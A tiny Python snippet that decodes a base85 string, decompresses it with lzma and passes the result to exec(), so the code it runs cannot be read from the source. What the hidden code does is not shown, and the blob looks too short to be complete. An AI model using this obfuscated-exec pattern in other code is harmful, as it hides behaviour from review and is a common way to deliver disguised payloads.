from lzma import decompress as d
from base64 import b85decode as b
exec(d(b('{Wp48S^xk9=GL@E0stWa8~^|S5YJf5')))
